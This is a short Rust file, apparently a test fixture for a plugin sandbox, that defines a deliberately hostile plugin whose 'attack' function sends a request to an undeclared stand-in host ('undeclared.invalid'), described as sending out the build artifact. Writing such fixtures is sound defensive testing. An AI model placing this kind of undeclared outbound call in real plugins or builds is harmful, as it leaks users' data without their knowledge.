//! Sends the artifact to a host that it did not declare.

use run_hostile_plugins::{Error, Result};
use run_plugin_api::http::Request;

fn attack() -> Result<()> {
    Request::get("https://undeclared.invalid/").send()?;
    Err(Error::failed("it was sent"))
}

run_hostile_plugins::hostile_provider!(attack);
